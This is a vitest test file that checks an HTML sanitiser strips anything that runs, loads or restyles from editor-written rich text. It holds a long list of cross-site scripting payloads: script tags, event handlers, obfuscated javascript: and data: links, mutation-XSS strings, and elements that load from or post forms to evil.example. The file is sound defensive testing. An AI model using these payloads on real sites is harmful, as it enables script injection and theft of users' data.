/** Rich text of content: what editors write stays, and nothing that runs, loads or restyles gets through. */
import { Window } from 'happy-dom';
import { describe, expect, it } from 'vitest';
import { safeHtml } from './safeHtml.ts';

const SCRIPTS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">alert(1)</script>',
  '<script\x20type="text/javascript">alert(1)</script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/src=data:,alert(1)></script>',
  '<script>alert(1)',
  '</script><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<math><mi><script>alert(1)</script></mi></math>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
];

const HANDLERS = [
  'onclick',
  'onerror',
  'onload',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const HANDLED = ['p', 'a', 'strong', 'li', 'img', 'svg', 'details', 'body', 'video', 'input'];

const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\x01javascript:alert(1)',
  'java&#115;cript:alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#x3a;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'feed:javascript:alert(1)',
  '//evil.example/x',
];

const ELEMENTS = [
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<form action="https://evil.example"><input name="card"></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<textarea autofocus onfocus=alert(1)>x</textarea>',
  '<select onchange=alert(1)><option>x</option></select>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<image href=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  '<dialog open>x</dialog>',
  '<portal src="https://evil.example"></portal>',
  '<custom-element onclick=alert(1)>x</custom-element>',
];

const ATTRIBUTES = [
  '<p style="position:fixed;inset:0">x</p>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p id="root">x</p>',
  '<a name="getElementById" href="/gallery">x</a>',
  '<p class="x" data-test="payment.submitted">x</p>',
  '<a href="/gallery" target="_blank" ping="https://evil.example">x</a>',
  '<a href="/gallery" download="x.exe">x</a>',
  '<p contenteditable accesskey="x" tabindex="1" autofocus>x</p>',
  '<p is="x-y" slot="z" part="q">x</p>',
  '<p xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">x</p>',
  '<a href="/gallery" srcset="x" background="x" formaction="x">x</a>',
];

const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<a href="x\\"onmouseover=alert(1)//">x</a>',
  "<a href='/gallery' onmouseover='alert(1)'>x</a>",
  '<a href=`javascript:alert(1)`>x</a>',
  '<a\x0chref="javascript:alert(1)">x</a>',
  '<p\x00onclick=alert(1)>x</p>',
  '<a href="/gallery"onclick=alert(1)>x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">',
];

const PAYLOADS = [
  ...SCRIPTS,
  ...HANDLED.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}="alert(1)" src=x>x</${tag}>`)),
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...MUTATIONS,
];

const ALLOWED_TAGS = 'P BR STRONG EM B I UL OL LI H3 H4 A BLOCKQUOTE SUB SUP'.split(' ');
const ALLOWED_ATTRIBUTES = ['href', 'rel'];

/** An address with a scheme that pages may link to, or one on our own site. */
const isHarmless = (href: string): boolean => {
  const { protocol, host } = new URL(href, 'https://breakwater.example/');
  return (
    ['https:', 'http:', 'mailto:', 'tel:'].includes(protocol) && (host !== 'evil.example' || /^https?:/.test(href))
  );
};

/** What a browser would make of the HTML that is not one of the tags, attributes and addresses that a text may have. */
const dangersIn = (html: string): string[] => {
  const { document } = new Window();
  document.body.innerHTML = html;
  return [...document.body.querySelectorAll('*')].flatMap((element) => [
    ...(ALLOWED_TAGS.includes(element.tagName) ? [] : [element.tagName]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      if (!ALLOWED_ATTRIBUTES.includes(name)) return [`${name}=${value}`];
      return name === 'href' && !isHarmless(value ?? '') ? [`href=${value}`] : [];
    }),
  ]);
};

/** Links lead where they say; the sanitiser has to refuse what is no address by itself. */
const asIs = (href: string): string => href;

it('has payloads of every class', () => {
  expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(150);
});

it.each(PAYLOADS)('leaves nothing of %s that runs, loads or restyles', (payload) => {
  expect(dangersIn(safeHtml(`before ${payload} after`, asIs))).toEqual([]);
});

describe('what an editor writes', () => {
  it('stays: paragraphs, lists, small headings, emphasis and links', () => {
    const text =
      '<h3>Dogs</h3><p>Only <strong>assistance</strong> dogs.</p><ul><li><a href="/gallery">See</a></li></ul>';
    expect(safeHtml(text, asIs)).toBe(text);
  });

  it('has its links resolved, opens others without handing over this page, and loses those that lead nowhere', () => {
    const resolve = (href: string): string | null => (href === 'bad' ? null : href);
    expect(safeHtml('<a href="bad">one</a> <a href="https://x.example/">two</a>', resolve)).toBe(
      '<a>one</a> <a href="https://x.example/" rel="noopener">two</a>',
    );
  });
});
